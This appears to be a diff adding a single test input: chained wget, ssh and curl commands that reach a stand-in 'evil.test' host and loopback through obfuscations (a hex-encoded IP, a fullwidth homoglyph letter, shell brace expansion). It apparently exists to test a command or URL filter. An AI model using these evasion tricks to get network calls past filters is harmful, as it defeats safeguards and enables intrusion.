@@ -1,0 +1,1 @@
+wget http://0x7f000001/; ssh ｅvil.test; curl 'http://{evil,x}.test'
